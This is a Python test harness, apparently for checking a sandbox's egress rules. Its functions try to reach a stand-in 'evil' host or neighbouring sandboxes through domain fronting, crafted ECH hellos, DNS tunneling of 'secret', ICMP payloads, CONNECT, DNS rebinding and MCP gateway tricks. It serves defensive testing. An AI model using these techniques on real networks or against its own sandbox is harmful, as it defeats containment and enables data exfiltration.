"""Ways around network rules, tried from inside a sandbox. Prints REACHED and what was heard, or why it was not."""
import http.client
import json
import os
import socket
import ssl
import struct
import sys
import time

ALLOWED, EVIL = '6.6.6.2', '6.6.6.3'
HOST = 'www.allowed.test'


def tls(address, port, sni, host, path='/', headers=''):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((address, port), 5)
    with context.wrap_socket(s, server_hostname=sni) as c:
        c.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n' % (path, host, headers)).encode())
        said = b''
        while more := c.recv(4096):
            said += more
        return said.decode('latin1')


def reached(said, wanted='HTTP/1.1 200'):
    return 'REACHED ' + said.split('\r\n')[0] if said.startswith(wanted) else 'answered ' + said.split('\r\n')[0]


def raw_address():
    s = socket.create_connection((EVIL, 7), 5)
    s.settimeout(12)
    s.sendall(b'\x00secret')
    data = s.recv(100)
    return 'REACHED' if b'secret' in data else 'closed'


def other_sni():
    return reached(tls(EVIL, 443, 'evil.test', 'evil.test'))


def other_sni_at_allowed_address():
    return reached(tls(ALLOWED, 443, 'evil.test', 'evil.test'))


def no_sni():
    return reached(tls(EVIL, 443, None, 'evil.test'))


def plain_host():
    c = http.client.HTTPConnection(EVIL, 80, timeout=5)
    c.request('GET', '/', headers={'Host': 'evil.test'})
    r = c.getresponse()
    r.read()
    return 'REACHED' if r.status == 200 else 'answered %d' % r.status


def host_changes():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    c.request('GET', '/', headers={'Host': HOST})
    if c.getresponse().read() == b'':
        return 'no first answer'
    c.request('GET', '/', headers={'Host': 'evil.test'})
    r = c.getresponse()
    r.read()
    return 'REACHED' if r.status == 200 else 'answered %d' % r.status


def fronting():
    said = tls(ALLOWED, 443, HOST, 'evil.test')
    return 'REACHED' if '"host": "evil.test"' in said else reached(said)


def http2_frame(kind, flags, stream, content):
    return len(content).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + content


def http2_fronting():
    """The server name of TLS is allowed, the authority of the request is another. Python has no HTTP/2, so by hand."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(['h2'])
    s = socket.create_connection((ALLOWED, 443), 5)
    with context.wrap_socket(s, server_hostname=HOST) as c:
        if c.selected_alpn_protocol() != 'h2':
            return 'no HTTP/2'
        # GET, https, / by their numbers; the authority written out.
        head = b'\x82\x87\x84\x01' + bytes([len('evil.test')]) + b'evil.test'
        c.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + http2_frame(4, 0, 0, b'') + http2_frame(1, 5, 1, head))
        c.settimeout(8)
        said = b''
        while b'host' not in said and b'opened for' not in said and len(said) < 65536:
            more = c.recv(4096)
            if not more:
                break
            said += more
    return 'REACHED another host' if b'host evil.test' in said else 'not passed on'


def header_by_tls():
    return 'REACHED' if '"lab": "value"' in tls(ALLOWED, 443, HOST, HOST) else 'no header'


def shared_port():
    """More plain connections than the node has local ports, then one whose TLS it opens: that one's rule must not act on
    a plain request."""
    plain = [http.client.HTTPConnection(ALLOWED, 80, timeout=8) for _ in range(80)]
    for c in plain:
        c.request('GET', '/', headers={'Host': HOST})
        c.getresponse().read()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    opened = http.client.HTTPConnection(ALLOWED, 443, timeout=8)
    opened.sock = context.wrap_socket(socket.create_connection((ALLOWED, 443), 8), server_hostname=HOST)
    opened.request('GET', '/', headers={'Host': HOST})
    if b'"lab": "value"' not in opened.getresponse().read():
        return 'REACHED, or lost: the rule does not act on its own connection'
    for c in plain:
        try:
            c.request('GET', '/', headers={'Host': HOST})
            if b'"lab": "value"' in c.getresponse().read():
                return 'REACHED a plain request'
        except (OSError, http.client.HTTPException):
            return 'REACHED, or lost: a plain connection broke off'
    return 'the rule acts on its own connection'


def legitimate():
    return reached(tls(ALLOWED, 443, HOST, HOST))


def verified():
    """As a program does that trusts what the sandbox trusts. Says who signed for the host."""
    context = ssl.create_default_context()
    s = socket.create_connection((ALLOWED, 443), 5)
    with context.wrap_socket(s, server_hostname=HOST) as c:
        c.sendall(('GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % HOST).encode())
        return reached(c.recv(4096).decode('latin1'))


def extension(kind, data):
    return struct.pack('>HH', kind, len(data)) + data


def hello(outer):
    """A ClientHello of TLS 1.2 with an encrypted one inside (RFC 9849), of which nobody can tell for whom it is."""
    name = outer.encode()
    ech = b'\x00\x00\x01\x00\x01\x07' + struct.pack('>H', 32) + os.urandom(32) + struct.pack('>H', 160) + os.urandom(160)
    extensions = (extension(0, struct.pack('>HBH', len(name) + 3, 0, len(name)) + name)
                  + extension(10, b'\x00\x04\x00\x1d\x00\x17') + extension(11, b'\x01\x00')
                  + extension(13, b'\x00\x08\x04\x03\x08\x04\x04\x01\x05\x03') + extension(0xfe0d, ech))
    body = (b'\x03\x03' + os.urandom(32) + b'\x00' + b'\x00\x08\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30' + b'\x01\x00'
            + struct.pack('>H', len(extensions)) + extensions)
    message = b'\x01' + struct.pack('>I', len(body))[1:] + body
    return b'\x16\x03\x01' + struct.pack('>H', len(message)) + message


def encrypted_hello(address, outer):
    s = socket.create_connection((address, 443), 5)
    s.settimeout(5)
    s.sendall(hello(outer))
    said = b''
    while len(said) < 6 or b'Cay' not in said and len(said) < 1200:
        more = s.recv(4096)
        if not more:
            break
        said += more
    if said[:1] != b'\x16' or said[5:6] != b'\x02':
        return 'no ServerHello'
    return 'the node answered' if b'Cay egress authority' in said else 'REACHED ServerHello'


def ech_behind_allowed_name():
    return encrypted_hello(ALLOWED, HOST)


def ech_behind_other_name():
    return encrypted_hello(EVIL, 'evil.test')


def call(port, path, headers, message):
    c = http.client.HTTPConnection('127.0.0.1', port, timeout=30)
    c.request('POST', path, json.dumps(message), {'Content-Type': 'application/json', **headers})
    r = c.getresponse()
    return r, r.read().decode('latin1')


def gateway_with(server):
    """Starts the gateway with a remote server; returns the headers for its endpoint, or what went wrong."""
    token = 'lab-token'
    r, said = call(49983, '/mcp-gateway/start', {'X-Gateway-Token': token, 'X-Gateway-Current-Token': token}, {server: {}})
    if r.status != 200:
        return None, 'no gateway: %d %s' % (r.status, said[:100])
    headers = {'Authorization': 'Bearer ' + token, 'Accept': 'application/json, text/event-stream'}
    parameters = {'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 'way', 'version': '1'}}
    r, said = call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'id': 1, 'method': 'initialize', 'params': parameters})
    if r.status != 200:
        return None, 'not initialized: %d %s' % (r.status, said[:100])
    headers['Mcp-Session-Id'] = r.headers.get('Mcp-Session-Id', '')
    headers['Mcp-Protocol-Version'] = '2025-06-18'
    call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'method': 'notifications/initialized'})
    return headers, ''


def mcp_gateway():
    """Its connections to remote servers are made by the node, on the host."""
    headers, failed = gateway_with('lab')
    if failed:
        return failed
    end = time.time() + 15
    while time.time() < end:
        r, said = call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'id': 2, 'method': 'tools/list'})
        if 'leak' in said:
            return 'REACHED a tool of the remote server'
        status = call(49983, '/mcp-gateway/status', {}, {})[1]
        if 'may not' in status or 'refuse' in status or 'rules' in status:
            break
        time.sleep(0.5)
    return 'no tool: ' + ' '.join(status.split())[:120]


def mcp_authorization():
    """A remote server, which the rules allow, names an authorization server, which they do not. The node calls both."""
    # What the node knows of the server since the last try is forgotten with it.
    _, failed = gateway_with('lab')
    if failed:
        return failed
    headers, failed = gateway_with('guarded')
    if failed:
        return failed
    end = time.time() + 15
    while time.time() < end:
        call(50005, '/mcp', headers, {'jsonrpc': '2.0', 'id': 2, 'method': 'tools/list'})
        status = call(49983, '/mcp-gateway/status', {}, {})[1]
        if 'needs authorization' in status:
            return 'REACHED the authorization server'
        if 'may not' in status or 'refuse' in status or 'rules' in status:
            break
        time.sleep(0.5)
    return 'no authorization: ' + ' '.join(status.split())[:200]


def ask(server, name, kind, stream=False):
    question = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)
    for label in name.split('.'):
        question += bytes([len(label)]) + label.encode()
    question += b'\x00' + struct.pack('>HH', kind, 1)
    if stream:
        s = socket.create_connection((server, 53), 5)
        s.settimeout(5)
        s.sendall(struct.pack('>H', len(question)) + question)
        reply = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(question, (server, 53))
        reply = s.recv(4096)
    code, answers = reply[3] & 15, struct.unpack('>H', reply[6:8])[0]
    return 'REACHED %d answers' % answers if answers else 'code %d, no answers' % code


def gateway():
    for line in open('/etc/resolv.conf'):
        if line.startswith('nameserver'):
            return line.split()[1]


def dns_tunnel():
    return ask(gateway(), 'c2VjcmV0.evil.test', 16)


def dns_tunnel_by_addresses():
    return ask(gateway(), 'c2VjcmV0.evil.test', 1, True)


def dns_text_of_allowed_name():
    return ask(gateway(), HOST, 16)


def ech_keys():
    return ask(gateway(), HOST, 65)


def foreign_dns():
    return ask('8.8.8.8', 'evil.test', 1)


def foreign_dns_by_tcp():
    return ask('8.8.8.8', 'evil.test', 1, True)


def doh():
    return reached(tls('1.1.1.1', 443, 'cloudflare-dns.com', 'cloudflare-dns.com', '/dns-query'))


def dot():
    return reached(tls('1.1.1.1', 853, 'cloudflare-dns.com', 'cloudflare-dns.com'))


def datagram(size):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b's' * size, (EVIL, 443))
    return 'REACHED' if len(s.recv(65536)) == size else 'cut short'


def quic():
    return datagram(1200)


def fragments():
    return datagram(4000)


def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(3)
    s.sendto(b'\x08\x00\x00\x00\x00\x00\x00\x01secret', (EVIL, 0))
    s.recv(100)
    return 'REACHED'


def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(('2001:db8:66::3', 80))
    s.sendall(b'GET / HTTP/1.0\r\n\r\n')
    return reached(s.recv(100).decode('latin1'))


def connect():
    s = socket.create_connection((EVIL, 80), 5)
    s.settimeout(5)
    s.sendall(('CONNECT evil.test:443 HTTP/1.1\r\nHost: %s\r\n\r\n' % HOST).encode())
    said = s.recv(4096).decode('latin1')
    return 'REACHED' if ' 200 ' in said.split('\r\n')[0] else 'answered ' + said.split('\r\n')[0]


def websocket():
    said = tls(EVIL, 443, 'evil.test', 'evil.test', headers='Upgrade: websocket\r\n')
    return reached(said, 'HTTP/1.1 101')


def redirect():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    c.request('GET', '/redirect', headers={'Host': HOST})
    if c.getresponse().status != 302:
        return 'no redirect'
    return plain_host()


def rebinding():
    c = http.client.HTTPConnection(ALLOWED, 80, timeout=5)
    statuses = []
    for _ in range(2):
        c.request('GET', '/', headers={'Host': 'rebind.allowed.test'})
        r = c.getresponse()
        statuses.append((r.status, '10.1.2.3' in r.read().decode()))
    return 'REACHED' if any(private for _, private in statuses) else 'answered %s' % statuses[-1][0]


def neighbour():
    return reached(tls('127.0.0.1', int(os.environ['EDGE']), os.environ['NEIGHBOUR'], os.environ['NEIGHBOUR']), 'HTTP/1.1 2')


def neighbour_by_headers():
    """Clients may name the sandbox in headers instead of the host."""
    headers = 'E2b-Sandbox-Id: %s\r\nE2b-Sandbox-Port: %s\r\n' % tuple(
        reversed(os.environ['NEIGHBOUR'].split('.')[0].split('-', 1)))
    said = tls('127.0.0.1', int(os.environ['EDGE']), os.environ['OWN'], os.environ['API'], headers=headers)
    return reached(said, 'HTTP/1.1 2')


def neighbour_behind_own_name():
    """The server name of TLS is the sandbox's own, the request is for another."""
    said = tls('127.0.0.1', int(os.environ['EDGE']), os.environ['OWN'], os.environ['NEIGHBOUR'])
    return reached(said, 'HTTP/1.1 2')


try:
    print(globals()[sys.argv[1]]())
except (OSError, http.client.HTTPException) as e:
    print('refused:', type(e).__name__, e)
